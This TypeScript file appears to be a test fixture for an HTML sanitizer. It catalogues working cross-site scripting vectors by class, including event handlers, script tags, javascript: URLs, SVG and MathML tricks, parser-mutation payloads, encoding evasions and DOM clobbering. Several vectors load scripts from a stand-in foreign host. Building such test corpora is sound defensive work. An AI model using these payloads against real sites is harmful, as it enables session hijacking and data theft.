import { FOREIGN, refused } from './addresses.ts'
import { encoded, escaped } from './spellings.ts'

// Markup that would execute where it got into a page as it stands, by the classes that OWASP's guides to cross-site scripting
// tell apart. RUN stands for the code that tells of itself; `x:` is an address that fails without a request.

const IMG = '<img src="x:" onerror=RUN>'
const DATA = 'data:text/html,<script>RUN</script>'
const JS = 'data:text/javascript,RUN'
const SVG = 'http://www.w3.org/2000/svg'

export const markup: Readonly<Record<string, readonly string[]>> = {
  'event handlers': [
    IMG,
    '<img src="x:" oNeRrOr="RUN">',
    '<img/src="x:"/onerror=RUN>',
    '<img\fsrc="x:"\fonerror\n=\nRUN>',
    '<img src="x:" onerror\u0000=RUN onerror=RUN>',
    '<img alt="`" src="x:" title=\'a"b\' onerror=\'RUN\'>',
    '<img alt="<p title=\'>" src="x:" onerror="RUN">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="x: 1x" onerror=RUN onload=RUN>',
    '<body onload=RUN onpageshow=RUN onhashchange=RUN>',
    '<input autofocus onfocus=RUN value="Nhập">',
    '<details open ontoggle=RUN><summary>Mở ra</summary>Chữ</details>',
    '<video src="x:" onerror=RUN onloadstart=RUN></video>',
    '<video controls><source src="x:" onerror=RUN></video>',
    '<audio src="x:" onerror=RUN controls></audio>',
    '<marquee onstart=RUN width=1>Chạy</marquee>',
    '<p tabindex=0 autofocus onfocus=RUN onmouseover=RUN onpointerenter=RUN onclick=RUN>Chạm vào</p>',
    '<a href="#" onclick="RUN" onmouseenter=RUN accesskey=x>Bấm</a>',
    '<style>@keyframes k{from{left:0}}</style><p style="animation:k 1ms" onanimationstart=RUN>Động</p>',
    '<p contenteditable oncopy=RUN onpaste=RUN onbeforeinput=RUN onkeydown=RUN>Viết</p>',
    '<button popovertarget=po onclick=RUN>Hiện</button><p popover id=po onbeforetoggle=RUN>Hé</p>',
    '<p hidden=until-found onbeforematch=RUN>Tìm</p>',
    '<form oninput=RUN onsubmit=RUN><input name=a><button>Gửi</button></form>',
    '<tuỳ-chế onclick=RUN onscrollend=RUN oncontentvisibilityautostatechange=RUN style="display:block;content-visibility:auto">Lạ</tuỳ-chế>',
  ],
  scripts: [
    '<script>RUN</script>',
    '<ScRiPt/x>RUN</sCrIpT\n>',
    '<script type=module>RUN</script>',
    `<script src="${JS}"></script>`,
    `<script src="//${FOREIGN}/a.js"></script>`,
    '<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>',
    '<<script>RUN//<</script>',
    '<scr\u0000ipt>RUN</scr\u0000ipt><script\u000c>RUN</script>',
    '<script async nonce="" integrity="">RUN</script>',
    '<p>Chữ<script>RUN</script></p>',
  ],
  // Every scheme, and every way to write it, as a link.
  schemes: refused.map((address) => `<a href="${escaped(address)}">Liên kết</a>`),
  'schemes in other places': [
    `<a href=${encoded.decimal('javascript:RUN')}>Mười</a>`,
    `<a href=${encoded.padded('javascript:RUN')}>Đệm</a>`,
    `<a href="${encoded.hexadecimal('javascript:RUN')}">Mười sáu</a>`,
    '<a href="java&Tab;script&colon;RUN">Tên</a>',
    '<a href="&NewLine;java&#x0A;script:RUN">Dòng</a>',
    '<a href=`javascript:RUN`>Nháy</a>',
    `<a href="#" ping="//${FOREIGN}/ping">Báo</a>`,
    '<map name=m><area shape=default href="javascript:RUN"></map><img usemap="#m" src="x:" width=90 height=90>',
    '<form action="javascript:RUN"><button>Gửi</button></form>',
    '<form><button formaction="javascript:RUN">Gửi</button></form>',
    '<form><input type=image src="x:" formaction="javascript:RUN" onerror=RUN></form>',
    '<img src="javascript:RUN" lowsrc="javascript:RUN" dynsrc="vbscript:RUN">',
    '<img srcset="javascript:RUN 2x, x: 1x" onerror=RUN>',
    '<table background="javascript:RUN"><tr><td background="javascript:RUN">Ô</table>',
    '<video poster="javascript:RUN" src="javascript:RUN" onerror=RUN></video>',
    '<blockquote cite="javascript:RUN">Trích <q cite="javascript:RUN">lời</q></blockquote>',
    '<picture><source srcset="javascript:RUN"><img src="javascript:RUN" onerror=RUN></picture>',
  ],
  SVG: [
    '<svg onload=RUN></svg>',
    '<svg><script>RUN</script></svg>',
    `<svg><script href="${JS}"/></svg>`,
    '<svg><script>&#112;wned/**/&#40;0);RUN</script></svg>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>Chữ</text></a></svg>',
    '<svg><a><animate attributeName=href to="javascript:RUN" begin=0s fill=freeze /><text y=20>Chữ</text></a></svg>',
    '<svg><animate attributeName=x dur=1ms onbegin=RUN onend=RUN></svg>',
    '<svg><set attributeName=onmouseover to=RUN onbegin=RUN></svg>',
    '<svg><image href="x:" onerror=RUN></svg>',
    `<svg><foreignObject><p>${IMG}</p></foreignObject></svg>`,
    `<svg><desc><p>${IMG}</p></desc></svg>`,
    '<svg><style onload=RUN></style></svg>',
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='${SVG}'><a href='javascript:RUN'><circle r='9'/></a></svg>#a"/></svg>`,
    `<img src="data:image/svg+xml;base64,${encoded.base64(`<svg xmlns="${SVG}" width="99" height="99" onload="pwned('drawing')"><script>pwned('drawing')</script><text>${'chữ '.repeat(50)}</text></svg>`)}" width=99 height=99>`,
    `<embed src="data:image/svg+xml,<svg xmlns='${SVG}' onload='RUN'/>" type="image/svg+xml">`,
  ],
  MathML: [
    '<math href="javascript:RUN">Công thức</math>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">Hành động</maction></math>',
    '<math><mi onfocus=RUN tabindex=0 autofocus>x</mi></math>',
    `<math><mtext>${IMG}</mtext></math>`,
    `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
    `<math>${IMG}</math>`,
  ],
  'mutation of what is parsed twice': [
    `<noscript><p title='</noscript>${IMG}'>Chữ</p></noscript>`,
    `<textarea><p title='</textarea>${IMG}'></textarea>`,
    `<title><p title='</title>${IMG}'></title>`,
    `<xmp><p title='</xmp>${IMG}'></xmp>`,
    `<iframe><p title='</iframe>${IMG}'></iframe>`,
    `<noembed><p title='</noembed>${IMG}'></noembed><noframes><p title='</noframes>${IMG}'></noframes>`,
    `<template><p title='</template>${IMG}'>Chữ</p></template>`,
    `<style><p title='</style>${IMG}'></style>`,
    `<svg></p><style><a title='</style>${IMG}'></a></style></svg>`,
    `<form><math><mtext></form><form><mglyph><style></math>${IMG}</style></form>`,
    `<math><mtext><table><mglyph><style><!--</style><img title='-->${escaped(IMG)}'></table></math>`,
    `<math><mtext><table><mglyph><style><!--</style><b title='-->${IMG}'></table></mtext></math>`,
    `<select><option><style></option></select>${IMG}</style></select>`,
    `<listing>${escaped(IMG)}</listing><pre>${escaped(IMG)}</pre>`,
    `<svg><title><style>${IMG}</style></title></svg>`,
    `<table><tr><td><svg><desc><td>${IMG}</desc></svg></table>`,
    `<b><a href="#"><table><a href="#">${IMG}</table></a></b>`,
  ],
  'comments and sections': [
    `<!-->${IMG}-->`,
    `<!--->${IMG}-->`,
    `<!-- a --!>${IMG}-->`,
    `<!--[if gte IE 4]>${IMG}<![endif]--><![if !IE]>${IMG}<![endif]>`,
    `<![CDATA[>${IMG}]]>`,
    `<svg><![CDATA[<p>]]>${IMG}</svg>`,
    `<svg><![CDATA[</svg>${IMG}]]></svg>`,
    `<?xml version="1.0"?>${IMG}<? >${IMG} ?>`,
    `<!ELEMENT x ">${IMG}"></x y=">${IMG}">`,
    `<!DOCTYPE html [<!ENTITY e "RUN">]>${IMG}`,
  ],
  CSS: [
    '<p style="background:url(javascript:RUN)">Nền</p>',
    '<p style="width:expression(RUN);w\\69 dth:ex/**/pression(RUN);behavior:url(#default#time2)">Rộng</p>',
    `<p style="background:url(//${FOREIGN}/css);-moz-binding:url(//${FOREIGN}/xbl)">Nền xa</p>`,
    '<style onload=RUN>p{color:red}</style>',
    `<style>@import "//${FOREIGN}/a.css";p{background:url(//${FOREIGN}/b)}@font-face{font-family:f;src:url(//${FOREIGN}/f)}*{font-family:f}</style>`,
    '<style>li{list-style-image:url("javascript:RUN")}</style><ul><li>Mục</ul>',
    '<link rel=stylesheet href="data:text/css," onload=RUN>',
    `<link rel=stylesheet href="//${FOREIGN}/c.css"><link rel="preload" as=script href="//${FOREIGN}/d.js"><link rel=modulepreload href="//${FOREIGN}/e.js">`,
    `<p style="position:fixed;inset:0;z-index:9" onmousemove=RUN>Phủ</p>`,
  ],
  'documents in the document': [
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    `<meta http-equiv=refresh content="0;url=${DATA}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">${IMG}`,
    `<base href="//${FOREIGN}/"><script src="a.js"></script>`,
    '<base href="javascript:/a/-RUN/*"><a href="#">Gốc</a>',
    `<iframe srcdoc='${IMG}'></iframe>`,
    '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.RUN"></iframe>',
    `<iframe src="${DATA}"></iframe>`,
    '<iframe onload=RUN></iframe>',
    `<iframe src="//${FOREIGN}/frame"></iframe>`,
    `<object data="${DATA}" type="text/html"></object>`,
    '<object data="javascript:RUN" onerror=RUN><param name=src value="javascript:RUN"></object>',
    `<embed src="${DATA}" type="text/html">`,
    `<applet code="javascript:RUN"></applet><portal src="${DATA}"></portal><fencedframe></fencedframe>${IMG}`,
    `<div><template shadowrootmode=open>${IMG}</template></div>`,
    `<template>${IMG}</template><template><script>RUN</script></template>`,
    '<frameset onload=RUN><frame src="javascript:RUN"></frameset>',
  ],
  encodings: [
    escaped(IMG),
    escaped(escaped(IMG)),
    encoded.decimal(IMG),
    encoded.hexadecimal(IMG),
    '%3Cimg src=x: onerror=RUN%3E',
    '\\u003cimg src=x: onerror=RUN\\u003e \\x3csvg onload=RUN\\x3e',
    '\uff1cscript\uff1eRUN\uff1c/script\uff1e \u00bcscript\u00beRUN\u00bc/script\u00be',
    '<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '<\u0338script>RUN</script><\u200bimg src=x: onerror=RUN>',
    '<img src="x:" onerror="\\u0070wned(0);RUN">',
  ],
  'names that a page looks for': [
    `<a id=root data-article-body>Gốc</a><p id=served>{"RUN":1}</p>`,
    `<img name=currentScript data-modules="${JS}" data-fonts="//${FOREIGN}/f.css">`,
    `<form id=document name=body><input name=attributes><input name=parentNode>${IMG}</form>`,
    `<script id=served type="application/json">{"x":"</script>${IMG}"}</script>`,
    '{{constructor.constructor("RUN")()}} <p ng-app v-html="RUN" x-init="RUN" data-bind="html:RUN">Khuôn</p>',
  ],
}

/** What never ends, and takes what comes after it into itself: to stand last. */
export const unclosed: readonly string[] = [
  '<img src="x:" onerror=RUN//',
  `<plaintext>${IMG}`,
  `<svg><style><!--</style>${IMG}<!--`,
]

/** A vector by its number, which its code tells. */
export function armed(vector: string, number: number): string {
  return vector.replaceAll('RUN', `pwned(${number})`)
}

export type Vector = { number: number; kind: string; markup: string }

export const vectors: readonly Vector[] = [...Object.entries(markup), ['unclosed', unclosed] as const]
  .flatMap(([kind, list]) => list.map((vector) => ({ kind, vector })))
  .map(({ kind, vector }, number) => ({ number, kind, markup: armed(vector, number) }))
